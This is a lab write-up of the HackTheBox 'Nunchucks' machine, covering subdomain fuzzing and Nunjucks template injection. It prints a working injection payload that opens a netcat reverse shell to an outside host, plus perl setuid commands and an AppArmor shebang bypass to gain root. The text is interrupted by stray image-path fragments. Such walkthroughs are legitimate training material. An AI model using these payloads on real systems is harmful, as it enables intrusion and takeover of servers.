An easy Linux box from HackTheBox, using an SSTI to get initial access, and a work around how AppArmor works with perl to get root.



Running the usual nmap, see there is a website on port 80

There is no ability to signup, despite there being a page for it

gobuster doesn’t return anything interesting either with the medium wordlist

Try to enumerate subdomains with wfuzz, -hh for filtering char length, specifying what I’m fuzzing with the Host header

sudo wfuzz -H "Host: FUZZ.nunchucks.htb" -w /usr/share/seclists/Discovery/DNS/subdomains-top1million-5000.txt --hh 30587 https://nunchucks.htb

It finds the store subdomain, when we navigate to it (after adding it to hosts file), the page looks likeWhen you submit an email, it reflects the input

Trying template injection, see that it works as it evaluates 10x2

Using burp to identify the technology with the reply HTTP message, can see that the site uses Express (with nodejs)

HTTP/1.1 304 Not Modified
Server: nginx/1.18.0 (Ubuntu)
Date: Tue, 10 May 2022 23:58:20 GMT
Connection: close
X-Powered-By: Express
ETag: W/"fbd-udK+KYlYFVN2Nn2DXdm1EXd8mv0"

Using the hacktricks template injection section, find that the templating system it uses is Nunjucks (haha) by fingerprinting with {{foo}} payload outputting nothing


Can inject in a way thatexecutes system commands, and getting a reverse shell using the netcat on the system

{"email":"{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 6767 >/tmp/f')\")()}}"}

With the reverse shell run linpeas, it finds that perl has setuid priveledges

/usr/bin/perl = cap_setuid+ep

So to exploit, just run a set uid = 0 with a one liner

perl -e 'use POSIX (setuid); POSIX::setuid(0); exec "/bin/bash";'

But it doesn’t work, because the root directory is being protected by apparmor in /etc/apparmor.d/usr.bin.perl - found by linpeas but I didnt see it and though I was being a moron/usr/bin/perl {
 #include <abstractions/base>
 #include <abstractions/nameservice>
 #include <abstractions/perl>
 capability setuid,
 deny owner /etc/nsswitch.conf r,
 deny /root/* rwx,
 deny /etc/shadow rwx,
 /usr/bin/id mrix,
 /usr/bin/ls mrix,
 /usr/bin/cat mrix,
 /usr/bin/whoami mrix,
 /opt/ mrix,
 owner /home/ r,
 owner /home/david/ r,However there is a bypassthat when you run perl with a shebang in a script, it doesn’t restrict you, and you canspawn a shell

use POSIX (setuid); POSIX::setuid(0); exec "/bin/bash";Then making it executable withchmod and executing gives you root